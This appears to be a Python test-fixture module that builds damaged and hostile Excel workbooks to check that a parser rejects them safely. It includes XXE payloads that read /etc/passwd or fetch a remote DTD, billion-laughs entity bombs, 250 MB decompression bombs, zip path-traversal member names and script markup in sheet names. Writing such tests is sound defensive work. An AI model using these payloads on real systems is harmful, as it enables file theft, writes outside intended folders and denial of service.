"""Workbooks damaged, odd or hostile inside: parts missing, cut short, swollen or poisoned, and what programs add."""

from __future__ import annotations

import io
import re
import struct
import zipfile
from collections.abc import Callable
from pathlib import Path

from .broken_plan import (
    ANY,
    GOOD,
    HEAD,
    NAMESPACE,
    PROBLEMS,
    RELATIONS,
    SAME,
    UNREADABLE,
    Book,
    Case,
    Made,
    Make,
    Parts,
    Swollen,
    parts_of,
    zipped,
)

SHEET = "xl/worksheets/sheet4.xml"
"""The sheet of outcomes."""
TEXTS = "xl/sharedStrings.xml"
ROW = '<row r="{0}"><c r="A{0}" t="inlineStr"><is><t>x</t></is></c></row>'
FAR = (
    '<row r="99999999999999999999"><c><v>1</v></c></row>',
    '<row r="4294967295"><c><v>1</v></c></row>',
    '<row r="6"><c r="A99999999"><v>1</v></c></row>',
    '<row r="6"><c r="ZZZZZZ1"><v>1</v></c></row>',
    '<row r="6"><c x:r="A6" r="XFD1048576"><v>1</v></c></row>',
    '<row r="6"><c r="A6" r="XFD1048576"><v>1</v></c></row>',
    """<row r="6"><c t=" r='A6'" r="XFD1048576"><v>1</v></c></row>""",
    '<!-- <c r="A6"/> --><row r="1048576"><c/><c/><c/><c/><c><v>1</v></c></row>',
)
"""Cells and rows in places that a careless reader takes memory for."""
RICH = (
    '<r><t xml:space="preserve">Fewer </t></r><r><rPr><b/></rPr><t>homes burn</t></r><rPh sb="0" eb="1"><t>x</t></rPh>'
)
LAUGHS = (
    '<!DOCTYPE lolz [<!ENTITY a "ha">'
    + "".join(f'<!ENTITY {new} "{f"&{old};" * 10}">' for old, new in zip("abcdefghi", "bcdefghij", strict=True))
    + "]>"
)
OUTSIDE = '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
REMOTE = '<!DOCTYPE r SYSTEM "http://example.org/evil.dtd">'
PARAMETER = '<!DOCTYPE r [<!ENTITY % p SYSTEM "http://example.org/evil.dtd"> %p;]>'


CASES: list[Case] = []
ALL = frozenset(Book().good)
"""Ids of everything in the good plan."""


def good_parts() -> Parts:
    return dict(parts_of(Book()))


def placed(content: Callable[[], bytes], name: str = "plan.xlsx", good: frozenset[str] = frozenset()) -> Make:
    """A maker of a file with this content."""

    def make(folder: Path) -> Made:
        (folder / name).write_bytes(content())
        return Made(folder / name, good)

    return make


def book(
    name: str, what: str, outcome: str, change: Callable[[Parts], object], says: str = "", heavy: bool = False,
    loses: str = "",
) -> None:  # fmt: skip
    """Puts on the list a good workbook whose parts are changed; `loses` names the sheets that need not be loaded."""

    def content() -> bytes:
        parts = good_parts()
        change(parts)
        return zipped(parts)

    lost = {str(row[0]) for sheet in loses.split() for row in GOOD[sheet][1:]}
    good = ALL - lost if outcome in (PROBLEMS, SAME) else frozenset()
    CASES.append(Case(f"book-{name}", what, outcome, placed(content, good=good), says, heavy=heavy))


def raw(name: str, what: str, outcome: str, content: Callable[[bytes], bytes], says: str = "") -> None:
    """Puts on the list a good workbook whose bytes are changed."""
    good = ALL if outcome == SAME else frozenset()
    CASES.append(Case(f"bytes-{name}", what, outcome, placed(lambda: content(zipped(good_parts())), good=good), says))


def swap(part: str, old: str, new: str) -> Callable[[Parts], object]:
    """A change of the first such text in a part; the text must be there."""

    def change(parts: Parts) -> None:
        text = parts[part]
        assert isinstance(text, str)
        assert old in text
        parts[part] = text.replace(old, new, 1)

    return change


def drop(part: str) -> Callable[[Parts], object]:
    return lambda parts: parts.pop(part)


def put(part: str, content: str | bytes | Swollen) -> Callable[[Parts], object]:
    return lambda parts: parts.update({part: content})


def cut(part: str, share: float) -> Callable[[Parts], object]:
    """A change that leaves only so much of a part, from 0 to 1."""

    def change(parts: Parts) -> None:
        text = str(parts[part])
        parts[part] = text[: int(len(text) * share)]

    return change


def more_rows(xml: str) -> Callable[[Parts], object]:
    return swap(SHEET, "</sheetData>", f"{xml}</sheetData>")


def before_rows(xml: str) -> Callable[[Parts], object]:
    return swap(SHEET, "<sheetData>", f"{xml}<sheetData>")


def merging(*spans: str) -> Callable[[Parts], object]:
    cells = "".join(f'<mergeCell ref="{span}"/>' for span in spans)
    return swap(SHEET, "</worksheet>", f"<mergeCells>{cells}</mergeCells></worksheet>")


def rows_turned_round(parts: Parts) -> None:
    rows = re.findall(r"<row .*?</row>", str(parts[SHEET]))
    parts[SHEET] = str(parts[SHEET]).replace("".join(rows), "".join(reversed(rows)))


def one_text_often(parts: Parts) -> None:
    cells = "".join(f'<row r="{at}"><c r="A{at}" t="s"><v>0</v></c></row>' for at in range(1, 100_000))
    parts[TEXTS] = f'{HEAD}<sst xmlns="{NAMESPACE}"><si><t>{"x" * 30_000}</t></si></sst>'
    parts[SHEET] = f'{HEAD}<worksheet xmlns="{NAMESPACE}"><sheetData>{cells}</sheetData></worksheet>'


def a_thousand_sheets(parts: Parts) -> None:
    numbers = range(100, 1100)
    sheets = "".join(f'<sheet name="S{at}" sheetId="{at}" r:id="x{at}"/>' for at in numbers)
    links = "".join(f'<Relationship Id="x{at}" Type="t" Target="worksheets/s{at}.xml"/>' for at in numbers)
    swap("xl/workbook.xml", "</sheets>", f"{sheets}</sheets>")(parts)
    swap("xl/_rels/workbook.xml.rels", "</Relationships>", f"{links}</Relationships>")(parts)
    empty = f'<worksheet xmlns="{NAMESPACE}"><sheetData/></worksheet>'
    parts |= {f"xl/worksheets/s{at}.xml": empty for at in numbers}


def in_strict_form(parts: Parts) -> None:
    for part, text in parts.items():
        strict = str(text).replace(NAMESPACE, "http://purl.oclc.org/ooxml/spreadsheetml/main")
        parts[part] = strict.replace(RELATIONS, "http://purl.oclc.org/ooxml/officeDocument/relationships")


def iso_day(parts: Parts) -> None:
    day = '<c r="F2" t="d"><v>2011-04-01T00:00:00</v></c>'
    parts[SHEET] = re.sub('<c r="F2" t="s"><v>[0-9]+</v></c>', day, str(parts[SHEET]))


def in_latin_1(parts: Parts) -> None:
    text = str(parts[TEXTS]).replace("UTF-8", "ISO-8859-1").replace("Fires", "F\u00efres")
    parts[TEXTS] = text.encode("latin-1")


# Parts missing or cut short

book("without-list-of-sheets", "there is no list of sheets", UNREADABLE, drop("xl/workbook.xml"), "no workbook")
book("without-relations", "nothing says where the sheets are", UNREADABLE, drop("xl/_rels/workbook.xml.rels"))
book("without-a-sheet", "one sheet is listed and not there", UNREADABLE, drop(SHEET), "damaged|missing|not there")
book(
    "without-shared-texts",
    "the texts that cells share are not there",
    UNREADABLE,
    drop("xl/sharedStrings.xml"),
    "damaged|shared",
)
book("without-styles", "the styles are not there", SAME, drop("xl/styles.xml"))
book("without-types", "the list of content types is not there", SAME, drop("[Content_Types].xml"))
for part in ("xl/workbook.xml", "xl/_rels/workbook.xml.rels", SHEET, "xl/sharedStrings.xml"):
    stem = part.rpartition("/")[2].replace(".", "-")
    book(f"cut-{stem}", f"{part} breaks off", UNREADABLE, cut(part, 0.6), "damaged")
    book(f"empty-{stem}", f"{part} is empty", UNREADABLE, put(part, ""))
    book(f"binary-{stem}", f"{part} is not XML", UNREADABLE, put(part, b"\x00\x01\x02\xff" * 50))
book("cut-styles", "the styles break off", ANY, cut("xl/styles.xml", 0.5))
book("text-number-beyond-the-last", "a cell refers to a shared text that is not there", UNREADABLE,
     swap(SHEET, '<c r="H2" t="s"><v>', '<c r="H2" t="s"><v>9'), "damaged")  # fmt: skip
book(
    "text-number-not-a-number",
    "a cell refers to a shared text by a word",
    ANY,
    swap(SHEET, '<c r="H2" t="s"><v>', '<c r="H2" t="s"><v>x'),
)
book("two-sheets-in-one", "two sheets are the same part", UNREADABLE,
     swap("xl/_rels/workbook.xml.rels", "sheet4.xml", "sheet5.xml"), "sheets")  # fmt: skip
book("two-sheets-of-one-name", "two sheets have one name", ANY, swap("xl/workbook.xml", '"Risks"', '"Outcomes"'))
book("sheet-without-a-name", "a sheet has no name", ANY, swap("xl/workbook.xml", 'name="Risks"', 'name=""'))
book(
    "sheet-name-very-long",
    "a sheet's name goes on and on",
    PROBLEMS,
    swap("xl/workbook.xml", '"Risks"', f'"{"R" * 5000}"'),
    "RRR",
    loses="Risks",
)
book("sheet-name-of-markup", "a sheet's name is markup", PROBLEMS,
     swap("xl/workbook.xml", '"Risks"', '"&lt;script&gt;"'), "<script>", loses="Risks")  # fmt: skip
book("sheet-outside", "a sheet's part is said to stand outside the file", UNREADABLE,
     swap("xl/_rels/workbook.xml.rels", "worksheets/sheet4.xml", "../../../../etc/passwd"))  # fmt: skip
book("sheet-far-away", "a sheet's part is said to stand on another machine", UNREADABLE,
     swap("xl/_rels/workbook.xml.rels", 'Target="worksheets/sheet4.xml"', 'Target="http://example.org/s.xml" TargetMode="External"'))  # fmt: skip

# Poison

for part in ("xl/workbook.xml", SHEET, "xl/sharedStrings.xml", "xl/_rels/workbook.xml.rels", "xl/styles.xml"):
    stem = part.rpartition("/")[2].replace(".", "-")
    book(f"laughs-in-{stem}", f"{part} holds a billion laughs", UNREADABLE, swap(part, HEAD, HEAD + LAUGHS), "entities")
for name, poison in (("outside", OUTSIDE), ("remote", REMOTE), ("parameter", PARAMETER), ("plain", "<!DOCTYPE x>")):
    book(f"doctype-{name}", f"a sheet declares {poison[:60]}", UNREADABLE, swap(SHEET, HEAD, HEAD + poison), "entities")
book("laughs-in-utf-16", "a billion laughs hide in UTF-16", UNREADABLE,
     lambda parts: parts.update({SHEET: (LAUGHS + str(parts[SHEET])[len(HEAD):]).encode("utf-16")}))  # fmt: skip
book(
    "laughs-unread",
    "a billion laughs stand in a part that nobody reads",
    UNREADABLE,
    put("docProps/core.xml", HEAD + LAUGHS + "<r>&j;</r>"),
)
book("instruction", "a part holds processing instructions and comments", SAME, before_rows("<!-- <!x --><?run rm?>"))
book("deep", "a part is nested a hundred thousand deep", SAME,
     before_rows("<a>" * 100_000 + "</a>" * 100_000), heavy=True)  # fmt: skip
book("wide", "an element has a hundred thousand attributes", SAME,
     before_rows("<a " + " ".join(f"a{at}='1'" for at in range(100_000)) + "/>"), heavy=True)  # fmt: skip

# Size

book("cell-at-the-last-row", "a cell stands in the last row a sheet can have", ANY,
     more_rows(ROW.format(1_048_576)), heavy=True)  # fmt: skip
book("cell-at-the-last-corner", "a cell stands in the last row and column", UNREADABLE,
     more_rows('<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'), "XFD1048576", heavy=True)  # fmt: skip
book("cell-beyond-the-last-corner", "a cell stands beyond where any can", ANY,
     more_rows('<row r="9999999"><c r="ZZZ9999999"><v>1</v></c></row>'), heavy=True)  # fmt: skip
for at, odd in enumerate(FAR, 1):
    book(f"far-{at}", f"a place is not to be believed: {odd}", UNREADABLE, more_rows(odd), heavy=True)
book("dimension-untrue", "a sheet says that it is as large as can be", SAME,
     before_rows('<dimension ref="A1:XFD1048576"/>'), heavy=True)  # fmt: skip
book("dimension-beyond", "a sheet says that it is larger than can be", SAME,
     before_rows('<dimension ref="A1:ZZZZ99999999999"/>'), heavy=True)  # fmt: skip
book("formatted-to-the-edge", "a hundred thousand rows have a format and no value", SAME,
     more_rows("".join(f'<row r="{at}" s="1"><c r="A{at}" s="1"/></row>' for at in range(9, 100_000))), heavy=True)  # fmt: skip
book("merged-everywhere", "the whole sheet is one merged cell", ANY,
     merging("A1:XFD1048576"), heavy=True)  # fmt: skip
book("merged-oddly", "merged cells have no such place", ANY,
     merging("B9:A1", "??", ""))  # fmt: skip
book("merged-often", "ten thousand cells are merged", ANY,
     merging(*(f"K{at}:K{at + 1}" for at in range(1, 20_000, 2))), heavy=True)  # fmt: skip
book(
    "bomb-of-spaces",
    "a sheet unpacks to 250 MB of spaces",
    UNREADABLE,
    put(SHEET, Swollen(b" ", 250_000_000)),
    "unpacks",
    heavy=True,
)
book(
    "bomb-beside",
    "a picture unpacks to 250 MB",
    UNREADABLE,
    put("xl/media/image1.png", Swollen(b"\0", 250_000_000)),
    "unpacks",
    heavy=True,
)
book(
    "bomb-of-texts", "a text of 30,000 letters stands in 100,000 cells", UNREADABLE, one_text_often, "text", heavy=True
)
book("bomb-of-formulas", "a hundred thousand formulas have no result", ANY,
     more_rows("".join(f'<row r="{at}"><c r="C{at}"><f>A1</f></c></row>' for at in range(6, 100_000))), heavy=True)  # fmt: skip
book("sheets-by-the-thousand", "there are a thousand sheets", UNREADABLE, a_thousand_sheets, "sheets")
book("members-by-the-thousand", "there are eleven thousand files inside", UNREADABLE,
     lambda parts: parts.update({f"docProps/{at}.bin": b"" for at in range(11_000)}), "files inside")  # fmt: skip
book("members-by-the-hundred", "there are a thousand files inside that nobody reads", SAME,
     lambda parts: parts.update({f"xl/media/{at}.bin": b"x" for at in range(1_000)}))  # fmt: skip

# Names inside the zip

for at, name in enumerate(
    (
        "../../../escaped.txt",
        "/etc/escaped.txt",
        "..\\..\\escaped.txt",
        "C:/escaped.txt",
        "xl/../../escaped",
        "a" * 5000,
        "\u202eslx.nalp",
    ),
    1,
):
    book(f"member-{at}", f"a file inside is called {name[:40]!r}", SAME, put(name, b"escaped"))
book("member-escaping-xml", "an XML part stands outside the folder", ANY, put("../../xl/worksheets/sheet4.xml", "<a/>"))
book(
    "nested",
    "another workbook stands inside",
    SAME,
    lambda parts: parts.update({"xl/embeddings/plan.xlsx": zipped(good_parts())}),
)
book(
    "macros",
    "there are macros inside",
    SAME,
    put("xl/vbaProject.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)),
)

# What programs write

book(
    "hidden",
    "a sheet is hidden",
    PROBLEMS,
    swap("xl/workbook.xml", '<sheet name="Risks"', '<sheet state="hidden" name="Risks"'),
    "hidden",
)
book(
    "very-hidden",
    "a sheet is hidden from all menus",
    PROBLEMS,
    swap("xl/workbook.xml", '<sheet name="Risks"', '<sheet state="veryHidden" name="Risks"'),
    "hidden",
)
book("protected-sheet", "a sheet is protected with a password", SAME,
     swap(SHEET, "</worksheet>", '<sheetProtection password="CC1A" sheet="1" objects="1"/></worksheet>'))  # fmt: skip
book("protected-book", "the list of sheets is protected with a password", SAME,
     swap("xl/workbook.xml", "<sheets>", '<workbookProtection workbookPassword="CC1A" lockStructure="1"/><sheets>'))  # fmt: skip
book("names", "there are defined names, one of them broken", SAME,
     swap("xl/workbook.xml", "</sheets>", "</sheets><definedNames><definedName name=\"a\">Outcomes!$A$1</definedName><definedName name=\"b\">#REF!</definedName><definedName/></definedNames>"))  # fmt: skip
book("pivots", "there is a pivot table with its cache", SAME,
     lambda parts: parts.update({"xl/pivotCache/pivotCacheDefinition1.xml": f'<pivotCacheDefinition xmlns="{NAMESPACE}"/>',
                                 "xl/pivotTables/pivotTable1.xml": f'<pivotTableDefinition xmlns="{NAMESPACE}"/>'}))  # fmt: skip
book("connections", "there are connections to a database and to other workbooks", SAME,
     lambda parts: parts.update({"xl/connections.xml": f'<connections xmlns="{NAMESPACE}"><connection id="1" name="http://example.org"/></connections>',
                                 "xl/externalLinks/externalLink1.xml": f'<externalLink xmlns="{NAMESPACE}"/>'}))  # fmt: skip
book("prefixed", "every element has a prefix, as some programs write them", SAME,
     lambda parts: parts.update({SHEET: re.sub(r"<(/?)(?=[a-z])", r"<\1x:", str(parts[SHEET])).replace("xmlns=", "xmlns:x=")}))  # fmt: skip
book(
    "cells-without-places",
    "cells do not say where they stand",
    SAME,
    lambda parts: parts.update({SHEET: re.sub(r' r="[A-Z]*\d+"', "", str(parts[SHEET]))}),
)
book("places-in-small-letters", "cells say where they stand in small letters", SAME,
     lambda parts: parts.update({SHEET: re.sub(r' r="([A-Z]+\d+)"', lambda m: m[0].lower(), str(parts[SHEET]))}))  # fmt: skip
book("rows-in-no-order", "rows stand in no order", SAME, rows_turned_round)
book(
    "cell-of-unknown-sort",
    "a cell has a sort that there is not",
    ANY,
    swap(SHEET, '<c r="H2" t="s">', '<c r="H2" t="z">'),
)
book(
    "cell-not-a-number",
    "a cell of numbers holds a word",
    ANY,
    swap(SHEET, '<c r="H2" t="s"><v>', '<c r="H2" t="n"><v>x'),
)
book("cell-of-an-iso-day", "a cell holds a day in the form of ISO 8601", SAME, iso_day)
book("cell-of-rich-text", "a text is in several fonts", SAME,
     swap(TEXTS, '<t xml:space="preserve">Fewer homes burn</t>', RICH))  # fmt: skip
book(
    "control-character",
    "a shared text holds a character that XML may not hold",
    ANY,
    swap("xl/sharedStrings.xml", "Fewer homes burn", "Fewer\x01homes"),
)
book(
    "days-from-1904",
    "days are counted from 1904",
    SAME,
    swap("xl/workbook.xml", "<sheets>", '<workbookPr date1904="1"/><sheets>'),
)
book("strict", "the workbook is in the strict form of the standard", SAME, in_strict_form)
for part in ("xl/workbook.xml", SHEET, TEXTS):
    stem = part.rpartition("/")[2].replace(".", "-")
    book(f"encoding-of-{stem}", f"{part} names an encoding that there is not", ANY, swap(part, "UTF-8", "UFT-8"))
book("latin-1-inside", "a part says that it is in Latin-1, and is", ANY, in_latin_1)
book(
    "no-declaration",
    "the parts have no XML declaration",
    SAME,
    lambda parts: parts.update({part: str(text).removeprefix(HEAD) for part, text in parts.items()}),
)
book(
    "byte-order-marks",
    "the parts begin with a byte-order mark",
    SAME,
    lambda parts: parts.update({part: "\ufeff" + str(text) for part, text in parts.items()}),
)


# The zip itself

raw("cut-half", "the file breaks off half-way", UNREADABLE, lambda content: content[: len(content) // 2], "damaged")
raw("cut-last", "the last ten bytes are missing", UNREADABLE, lambda content: content[:-10], "damaged")
raw("cut-first", "the first ten bytes are missing", UNREADABLE, lambda content: content[10:])
raw("only-a-head", "only the first bytes are there", UNREADABLE, lambda content: content[:4], "damaged")
raw("flipped", "a byte in the middle of a sheet is another", UNREADABLE, lambda content: flipped(content), "damaged")
raw("with-a-tail", "there are bytes after the end", SAME, lambda content: content + b"\n" * 100)
raw("with-a-head", "there are bytes before the beginning", UNREADABLE, lambda content: b"MZ" + bytes(100) + content)
raw("twice", "the file stands twice in itself", SAME, lambda content: content * 2)
raw(
    "encrypted-members",
    "the files inside are marked as encrypted",
    UNREADABLE,
    lambda content: flagged(content),
    "password",
)
raw(
    "unknown-packing",
    "the files inside are packed in an unknown way",
    UNREADABLE,
    lambda content: packed_oddly(content),
    "damaged",
)
raw(
    "sizes-untrue",
    "the zip says that its files are empty",
    UNREADABLE,
    lambda content: sizes_untrue(content),
    "damaged",
)
raw("stored", "the files inside are not packed", SAME, lambda _: zipped(good_parts(), zipfile.ZIP_STORED))
raw("packed-by-bzip2", "the files inside are packed by bzip2", SAME, lambda _: zipped(good_parts(), zipfile.ZIP_BZIP2))
raw("packed-by-lzma", "the files inside are packed by LZMA", SAME, lambda _: zipped(good_parts(), zipfile.ZIP_LZMA))
raw("names-twice", "two files inside have one name", UNREADABLE, lambda content: with_twins(content), "same name")
raw(
    "in-a-zip",
    "the workbook stands in a zip that is called a workbook",
    UNREADABLE,
    lambda content: zipped({"plan.xlsx": content}),
    "zip",
)
raw("member-without-a-name", "a file inside has no name", UNREADABLE, lambda content: nameless(content), "damaged")
raw("empty-zip", "the zip is empty", UNREADABLE, lambda _: zipped({}))


def flipped(content: bytes) -> bytes:
    """The content with one bit of the packed outcomes turned."""
    with zipfile.ZipFile(io.BytesIO(content)) as package:
        entry = package.getinfo(SHEET)
    at = entry.header_offset + 30 + len(SHEET) + entry.compress_size // 2
    return content[:at] + bytes([content[at] ^ 0x10]) + content[at + 1 :]


def central(content: bytes, at: int, new: bytes) -> bytes:
    """The content with bytes at this place of each entry of the zip's directory changed."""
    found = bytearray(content)
    for entry in re.finditer(rb"PK\x01\x02", content):
        found[entry.start() + at : entry.start() + at + len(new)] = new
    return bytes(found)


def flagged(content: bytes) -> bytes:
    return central(content, 8, struct.pack("<H", 1))


def packed_oddly(content: bytes) -> bytes:
    return central(content, 10, struct.pack("<H", 97))


def sizes_untrue(content: bytes) -> bytes:
    return central(content, 24, struct.pack("<I", 0))


def with_twins(content: bytes) -> bytes:
    """The workbook with a second sheet of outcomes of the same name, in capitals."""
    parts = good_parts()
    return zipped({**parts, SHEET.upper(): parts[SHEET]})


def nameless(content: bytes) -> bytes:
    return content.replace(b"xl/styles.xml", b"\0l/styles.xml")
